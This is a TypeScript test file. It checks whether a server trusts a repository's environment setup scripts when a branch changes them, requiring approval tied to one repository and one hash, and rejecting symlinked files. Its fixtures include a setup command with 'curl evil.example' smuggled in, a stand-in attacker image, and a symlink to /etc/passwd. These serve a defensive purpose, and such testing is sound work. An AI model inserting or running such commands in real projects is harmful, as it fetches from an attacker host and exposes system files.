/** Which environment files may have the secrets: the real repository, the real table. */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { defaultEnvironment, type Environment } from '../../../protocol/environment.ts';
import { CodexError } from '../../../protocol/errors.ts';
import { ENVIRONMENT_FILE, readEnvironmentFile } from '../../../server/environments/file.ts';
import { type ScriptTrust, Scripts } from '../../../server/environments/scripts.ts';
import { openStore, type Store } from '../../../server/store/store.ts';
import { commitAll, git, gitAsync, write } from '../../support/git.ts';
import { openTestStore, type TestStore } from '../repos/support.ts';

let repos: TestStore;
let store: Store;
let scripts: Scripts;
let work: string;
let repoId: string;
const shas: Record<string, string> = {};

before(async () => {
  repos = await openTestStore();
  store = await openStore({ dataDir: repos.dataDir });
  scripts = new Scripts({ store, repos: repos.repos });
  work = join(repos.dir, 'work');
  mkdirSync(work);
  git(work, ['init', '-q', '-b', 'main']);
  repoId = await repos.repos.resolve({ name: 'work', remote: null, folder: 'work' });
  const file = 'variables: { A: "1", B: "2" }\nsetup: |\n  npm ci\n';
  await commit('main', file);
  await commit('comment', `# The same.\n${file}`);
  await commit('order', 'setup: |\n  npm ci\nvariables: { B: "2", A: "1" }\n');
  await commit('script', file.replace('npm ci', 'npm ci; curl evil.example'));
  await commit('variable', file.replace('"2"', '"3"'));
  await commit('image', `image: evil.example/x\n${file}`);
  await commit('timeout', `${file}commandTimeoutMs: 5000\n`);
  await commit('broken', 'setup: [');
  git(work, ['rm', '-q', ENVIRONMENT_FILE]);
  shas['none'] = await push(commitAll(work, 'none'));
  mkdirSync(join(work, '.codex'), { recursive: true });
  symlinkSync('/etc/passwd', join(work, ENVIRONMENT_FILE));
  shas['link'] = await push(commitAll(work, 'link'));
});
after(async () => {
  await store.close();
  await repos.close();
});

async function commit(name: string, file: string): Promise<void> {
  write(work, ENVIRONMENT_FILE, file);
  shas[name] = await push(commitAll(work, name));
}

async function push(sha: string): Promise<string> {
  await gitAsync(work, ['push', '-q', repos.url(repoId), `${sha}:refs/codex/in/${randomUUID()}`]);
  return sha;
}

async function trust(at: string, on = 'main', stored: Partial<Environment> = {}): Promise<ScriptTrust> {
  const sha = shas[at] ?? '';
  const file = await readEnvironmentFile(repos.repos, repoId, sha);
  const defaultSha = on === '' ? undefined : (shas[on] ?? on);
  return scripts.trust({ repoId, sha, defaultSha, stored: { ...defaultEnvironment(), ...stored }, file });
}
const verdict = async (...of: Parameters<typeof trust>) => (await trust(...of)).why;

test('what is on the default branch is trusted, however else the file is written', async () => {
  assert.equal(await verdict('main'), 'default');
  assert.equal(await verdict('comment'), 'default');
  assert.equal(await verdict('order'), 'default');
  assert.equal(await verdict('timeout'), 'default', 'a time limit can’t lead a script elsewhere');
  assert.equal((await trust('main')).trusted, true);
});

test('a changed script, variable or image is not', async () => {
  for (const at of ['script', 'variable', 'image']) {
    const { trusted, why } = await trust(at);
    assert.deepEqual([at, trusted, why], [at, false, 'changed']);
  }
});

test('a branch is not trusted because the default one’s file is missing or broken', async () => {
  assert.equal(await verdict('main', 'none'), 'changed');
  assert.equal(await verdict('main', 'broken'), 'changed');
  assert.equal(await verdict('main', 'link'), 'changed');
});

test('without a default branch, or with one that is not here, nothing is trusted', async () => {
  assert.deepEqual([await verdict('main', ''), (await trust('main', '')).trusted], ['unknown', false]);
  assert.equal(await verdict('main', 'f'.repeat(40)), 'unknown');
});

test('a file that sets nothing that holds needs no trust', async () => {
  assert.equal(await verdict('none', 'none'), 'nothing');
  assert.equal(await verdict('none', ''), 'nothing');
  const all = { setup: 'make', image: 'base', variables: { A: 'x', B: 'y' } };
  assert.equal(await verdict('script', 'main', all), 'nothing');
  assert.equal(await verdict('image', 'main', all), 'nothing');
  assert.equal(await verdict('script', 'main', { setup: 'make' }), 'default', 'the variables are the same');
  assert.equal(await verdict('variable', 'main', { variables: { B: 'mine' } }), 'default');
});

test('a branch without the file is not trusted to be set up in another way than the default one', async () => {
  assert.equal(await verdict('none'), 'changed');
  assert.equal(await verdict('none', 'main', { setup: '', variables: { A: 'x', B: 'y' } }), 'nothing');
});

test('an approval is for exactly this, in this repository', async () => {
  const { hash } = await trust('script');
  assert.match(hash, /^[0-9a-f]{64}$/);
  await scripts.approve('other-repository', hash, 'anna');
  assert.equal(await verdict('script'), 'changed');
  await scripts.approve(repoId, hash, 'anna');
  await scripts.approve(repoId, hash, 'bob');
  assert.equal(await verdict('script'), 'approved');
  assert.equal(await verdict('script', ''), 'approved');
  assert.equal(await verdict('variable'), 'changed');
});

test('a symbolic link and a broken file are errors of the file', async () => {
  for (const at of ['link', 'broken'])
    await assert.rejects(
      readEnvironmentFile(repos.repos, repoId, shas[at] ?? ''),
      (error) => error instanceof CodexError && error.code === 'environmentFileInvalid',
    );
});
